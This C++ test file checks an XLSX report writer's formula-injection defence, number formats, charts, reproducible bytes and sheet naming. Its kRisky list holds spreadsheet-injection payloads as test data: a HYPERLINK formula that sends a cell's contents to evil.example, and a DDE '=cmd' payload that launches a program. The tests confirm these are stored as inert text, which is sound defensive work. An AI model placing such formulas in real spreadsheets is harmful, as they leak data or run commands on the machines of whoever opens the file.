#include <doctest/doctest.h>
#include <unistd.h>

#include <algorithm>
#include <cmath>
#include <cstdint>
#include <filesystem>
#include <string>
#include <vector>

#include "core/error.hpp"
#include "core/io.hpp"
#include "render/xlsx.hpp"
#include "xlsx/archive.hpp"
#include "xlsx/reader.hpp"

namespace r = fbkit::render;
namespace fs = std::filesystem;

namespace {

// A fresh directory under TMPDIR, removed at the end.
class TempDir {
public:
  TempDir() {
    static int counter = 0;
    m_path =
        fs::temp_directory_path() / ("fbkit_render_" + std::to_string(::getpid()) + "_" + std::to_string(counter++));
    fs::create_directories(m_path);
  }
  ~TempDir() { fs::remove_all(m_path); }
  TempDir(const TempDir&) = delete;
  TempDir& operator=(const TempDir&) = delete;
  std::string file(const std::string& name) const { return (m_path / name).string(); }
  std::vector<std::string> names() const {
    std::vector<std::string> out;
    for (const auto& e : fs::directory_iterator(m_path)) {
      out.push_back(e.path().filename().string());
    }
    std::sort(out.begin(), out.end());
    return out;
  }

private:
  fs::path m_path;
};

const std::vector<std::string> kRisky = {
    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
};

r::XlsxBook sample_book() {
  r::XlsxBook book;
  book.title = "Feedback report 2024-05";
  book.author = "fbkit";
  book.created = 1717200000;  // 2024-06-01T00:00:00Z
  r::XlsxSheet comments;
  comments.name = "Comments";
  comments.columns = {{"id"}, {"text"}};
  for (std::size_t i = 0; i < kRisky.size(); ++i) {
    comments.rows.push_back({std::string("c") + std::to_string(i), kRisky[i]});
  }
  comments.rows.push_back({std::string("zh"), std::string("配送太慢了，客服也不回复")});
  comments.rows.push_back({std::string("ctl"), std::string("a\x01"
                                                           "b\xFF"
                                                           "c")});
  r::XlsxSheet channels;
  channels.name = "By channel";
  // Column 1 is the page's only: the sheet leaves it out and the charts' column
  // numbers (of the whole table) are renumbered.
  channels.columns = {{"channel"},
                      {"note", r::XlsxType::text, 0, r::in_text},
                      {"count", r::XlsxType::number},
                      {"share", r::XlsxType::percent, 1},
                      {"csat", r::XlsxType::number, 2}};
  channels.rows = {{std::string("app"), std::string("page only"), 120.0, 0.6, 4.125},
                   {std::string("电话"), r::Cell(), 60.0, 0.3, 3.9},
                   {std::string("email"), r::Cell(), 20.0, 0.1, std::nan("")},
                   {std::string("other"), r::Cell(), r::XlsxValue{}, std::string("n/a"), 4.0}};
  channels.charts = {{r::XlsxChartType::pie, "Share by channel", 0, {2}},
                     {r::XlsxChartType::column, "=Volume", 0, {2}},
                     {r::XlsxChartType::line, "CSAT", 0, {4, 3}},
                     {r::XlsxChartType::bar, "ignored: bad column", 0, {9}},
                     {r::XlsxChartType::bar, "ignored: a column the sheet leaves out", 0, {1}}};
  book.sheets = {comments, channels};
  return book;
}

struct Row {
  std::int64_t number;
  std::vector<std::string> cells;
};

std::vector<Row> read_sheet(const std::string& path, const std::string& sheet) {
  fbkit::xlsx::SheetReader reader(path, {sheet});
  std::vector<Row> rows;
  Row row;
  while (reader.next(row.cells, row.number)) {
    rows.push_back(row);
  }
  return rows;
}

std::uint32_t le(const std::string& s, std::size_t at, int bytes) {
  std::uint32_t v = 0;
  for (int i = bytes - 1; i >= 0; --i) {
    v = (v << 8) | static_cast<unsigned char>(s[at + static_cast<std::size_t>(i)]);
  }
  return v;
}

// (name, DOS time, DOS date) of every entry in the zip's central directory.
struct Entry {
  std::string name;
  std::uint32_t time;
  std::uint32_t date;
};
std::vector<Entry> zip_entries(const std::string& zip) {
  const std::size_t eocd = zip.rfind(std::string("PK\x05\x06", 4));
  REQUIRE(eocd != std::string::npos);
  const std::uint32_t n = le(zip, eocd + 10, 2);
  std::size_t at = le(zip, eocd + 16, 4);
  std::vector<Entry> out;
  for (std::uint32_t k = 0; k < n; ++k) {
    REQUIRE(zip.compare(at, 4, std::string("PK\x01\x02", 4)) == 0);
    const std::uint32_t name_len = le(zip, at + 28, 2);
    out.push_back({zip.substr(at + 46, name_len), le(zip, at + 12, 2), le(zip, at + 14, 2)});
    at += 46 + name_len + le(zip, at + 30, 2) + le(zip, at + 32, 2);
  }
  return out;
}

}  // namespace

TEST_CASE("render::write_xlsx keeps formula-like customer text as text") {
  TempDir dir;
  const std::string path = dir.file("report.xlsx");
  r::write_xlsx(sample_book(), path);
  const auto rows = read_sheet(path, "Comments");
  REQUIRE(rows.size() == kRisky.size() + 3);
  CHECK(rows[0].cells == std::vector<std::string>{"id", "text"});
  for (std::size_t i = 0; i < kRisky.size(); ++i) {
    CHECK(rows[i + 1].cells[1] == kRisky[i]);
    CHECK(r::looks_like_formula(kRisky[i]));
  }
  CHECK(rows[kRisky.size() + 1].cells[1] == "配送太慢了，客服也不回复");
  CHECK(rows[kRisky.size() + 2].cells[1] ==
        "a\x01"
        "b\xEF\xBF\xBD"
        "c");  // control kept (escaped), bad byte replaced
  CHECK(!r::looks_like_formula("plain"));
  CHECK(!r::looks_like_formula(""));

  // In the XML: every text cell is a shared string and no cell has a formula.
  fbkit::xlsx::Archive zip(path);
  const auto sheet = zip.read("xl/worksheets/sheet1.xml");
  REQUIRE(sheet);
  CHECK(sheet->find("<f>") == std::string::npos);
  CHECK(sheet->find("<f ") == std::string::npos);
  std::size_t cells = 0;
  for (auto pos = sheet->find("<c r="); pos != std::string::npos; pos = sheet->find("<c r=", pos + 1)) {
    CHECK(sheet->substr(pos, sheet->find('>', pos) - pos).find("t=\"s\"") != std::string::npos);
    ++cells;
  }
  CHECK(cells == 2 * (kRisky.size() + 3));
}

TEST_CASE("render::write_xlsx writes numbers as numbers with their formats") {
  TempDir dir;
  const std::string path = dir.file("report.xlsx");
  r::write_xlsx(sample_book(), path);
  const auto rows = read_sheet(path, "By channel");
  REQUIRE(rows.size() == 5);
  CHECK(rows[0].cells == std::vector<std::string>{"channel", "count", "share", "csat"});
  CHECK(rows[1].cells == std::vector<std::string>{"app", "120", "60%", "4.125"});  // raw values, not rounded
  CHECK(rows[2].cells == std::vector<std::string>{"电话", "60", "30%", "3.9"});
  CHECK(rows[3].cells == std::vector<std::string>{"email", "20", "10%"});  // NaN: an empty cell
  CHECK(rows[4].cells == std::vector<std::string>{"other", "", "n/a", "4"});
  fbkit::xlsx::Archive zip(path);
  const auto styles = zip.read("xl/styles.xml");
  REQUIRE(styles);
  CHECK(styles->find("formatCode=\"0.0%\"") != std::string::npos);
  CHECK(styles->find("formatCode=\"0.00\"") != std::string::npos);
  const auto sheet = zip.read("xl/worksheets/sheet2.xml");
  REQUIRE(sheet);
  CHECK(sheet->find("<pane ySplit=\"1\"") != std::string::npos);  // header frozen
  CHECK(sheet->find("<autoFilter ref=\"A1:D5\"/>") != std::string::npos);
  CHECK(sheet->find("<cols>") != std::string::npos);
}

TEST_CASE("render::write_xlsx adds native charts over the sheet ranges") {
  TempDir dir;
  const std::string path = dir.file("report.xlsx");
  r::write_xlsx(sample_book(), path);
  fbkit::xlsx::Archive zip(path);
  const auto pie = zip.read("xl/charts/chart1.xml");
  const auto column = zip.read("xl/charts/chart2.xml");
  const auto line = zip.read("xl/charts/chart3.xml");
  REQUIRE(pie);
  REQUIRE(column);
  REQUIRE(line);
  CHECK(!zip.read("xl/charts/chart4.xml"));  // the chart over a missing column is left out
  CHECK(pie->find("<c:pieChart>") != std::string::npos);
  CHECK(pie->find("<c:f>'By channel'!$B$2:$B$5</c:f>") != std::string::npos);
  CHECK(pie->find("<c:f>'By channel'!$A$2:$A$5</c:f>") != std::string::npos);
  CHECK(pie->find("<c:showPercent val=\"1\"/>") != std::string::npos);
  CHECK(column->find("<c:barDir val=\"col\"/>") != std::string::npos);
  CHECK(column->find("<a:t> =Volume</a:t>") != std::string::npos);  // a title, not a reference
  CHECK(line->find("<c:lineChart>") != std::string::npos);
  CHECK(line->find("<c:f>'By channel'!$D$2:$D$5</c:f>") != std::string::npos);
  CHECK(line->find("<c:f>'By channel'!$C$1</c:f>") != std::string::npos);  // series named by the header
}

TEST_CASE("render::xlsx_bytes is byte-identical for the same book, with fixed dates") {
  const std::string a = r::xlsx_bytes(sample_book());
  ::usleep(2100 * 1000);  // past the zip format's 2-second time resolution
  const std::string b = r::xlsx_bytes(sample_book());
  CHECK(a.size() == b.size());
  CHECK(a == b);
  for (const auto& e : zip_entries(a)) {
    INFO(e.name);
    CHECK(e.date == ((0u << 9) | (1u << 5) | 1u));  // 1980-01-01
    CHECK(e.time == 0u);
  }
  r::XlsxBook other = sample_book();
  other.created = 1717286400;  // a day later: only the document dates change
  CHECK(r::xlsx_bytes(other) != a);

  TempDir dir;
  const std::string path = dir.file("r.xlsx");
  r::write_xlsx(sample_book(), path);
  const std::string file = fbkit::read_file(path);
  CHECK(file == a);
  fbkit::xlsx::Archive zip(path);
  const auto core = zip.read("docProps/core.xml");
  REQUIRE(core);
  CHECK(core->find("<dcterms:created xsi:type=\"dcterms:W3CDTF\">2024-06-01T00:00:00Z</dcterms:created>") !=
        std::string::npos);
  CHECK(core->find("<dc:title>Feedback report 2024-05</dc:title>") != std::string::npos);

  r::XlsxBook undated = sample_book();
  undated.created = 0;
  r::write_xlsx(undated, path);
  const auto core0 = fbkit::xlsx::Archive(path).read("docProps/core.xml");
  REQUIRE(core0);
  CHECK(core0->find(">1980-01-01T00:00:00Z</dcterms:created>") != std::string::npos);
}

TEST_CASE("render::write_xlsx replaces the target atomically and leaves no temporary files") {
  TempDir dir;
  const std::string path = dir.file("out.xlsx");
  fbkit::write_file_atomic(path, "previous");
  r::write_xlsx(sample_book(), path);
  CHECK(dir.names() == std::vector<std::string>{"out.xlsx"});
  CHECK(fbkit::read_file(path).starts_with("PK\x03\x04"));

  CHECK_THROWS_AS(r::write_xlsx(sample_book(), dir.file("missing/out.xlsx")), fbkit::IoError);
  fs::create_directories(dir.file("adir"));
  CHECK_THROWS_AS(r::write_xlsx(sample_book(), dir.file("adir")), fbkit::IoError);
  CHECK(dir.names() == std::vector<std::string>{"adir", "out.xlsx"});
}

TEST_CASE("render::write_xlsx handles an empty book and odd sheet names") {
  TempDir dir;
  r::XlsxBook empty;
  r::write_xlsx(empty, dir.file("empty.xlsx"));
  CHECK(fbkit::xlsx::SheetReader(dir.file("empty.xlsx")).sheet_names() == std::vector<std::string>{"Sheet1"});

  r::XlsxBook book;
  for (const char* name : {"a/b:c", "A/B:C", "", "'quoted'", "History",
                           "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三"}) {
    r::XlsxSheet s;
    s.name = name;
    s.columns = {{"x"}};
    s.rows = {{1.0}};
    book.sheets.push_back(s);
  }
  r::write_xlsx(book, dir.file("names.xlsx"));
  const std::vector<std::string> names = fbkit::xlsx::SheetReader(dir.file("names.xlsx")).sheet_names();
  CHECK(names == std::vector<std::string>{"a_b_c", "A_B_C (2)", "Sheet3", "quoted", "History_",
                                          "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一"});
}

TEST_CASE("render::sheet_name follows Excel's rules") {
  CHECK(r::sheet_name("[Q1]*?", {}, 1) == "_Q1___");
  CHECK(r::sheet_name("Summary", {"summary"}, 2) == "Summary (2)");
  CHECK(r::sheet_name("Summary", {"summary", "Summary (2)"}, 3) == "Summary (3)");
  CHECK(r::sheet_name(std::string(40, 'x'), {std::string(31, 'x')}, 2) == std::string(27, 'x') + " (2)");
  CHECK(r::sheet_name("'", {}, 4) == "Sheet4");
}

TEST_CASE("render::write_xlsx formats a cell by its own type over its column's") {
  TempDir dir;
  const std::string path = dir.file("facts.xlsx");
  r::XlsxBook book;
  r::XlsxSheet facts;
  facts.name = "Follow-up";
  facts.columns = {{"figure"}, {""}};  // text columns: a facts sheet mixes kinds
  r::Cell rate(std::string("87.5%"), r::XlsxValue{0.875});
  rate.type = r::XlsxType::percent;
  rate.decimals = 1;
  r::Cell count(std::string("12"), r::XlsxValue{12.0});
  count.type = r::XlsxType::number;
  facts.rows = {{r::Cell("closure rate"), rate}, {r::Cell("overdue"), count}, {r::Cell("plain"), r::Cell(0.5)}};
  book.sheets.push_back(facts);
  r::write_xlsx(book, path);
  const auto rows = read_sheet(path, "Follow-up");
  REQUIRE(rows.size() == 4);
  CHECK(rows[1].cells == std::vector<std::string>{"closure rate", "87.5%"});
  CHECK(rows[2].cells == std::vector<std::string>{"overdue", "12"});
  CHECK(rows[3].cells == std::vector<std::string>{"plain", "0.5"});
}
